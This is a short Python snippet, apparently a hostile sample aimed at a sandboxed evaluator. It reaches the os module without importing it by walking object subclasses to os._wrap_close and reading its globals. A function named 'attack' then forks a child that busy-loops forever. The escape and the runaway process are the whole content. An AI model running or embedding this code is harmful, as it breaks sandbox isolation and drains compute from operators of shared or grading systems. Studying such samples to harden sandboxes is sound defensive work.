# Walks to `os`, and leaves a child behind.
def _reach():
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            return kind.__init__.__globals__
    raise ValueError("not found")


def attack(n):
    words = _reach()
    if words["fork"]() == 0:
        while True:
            pass
    return n
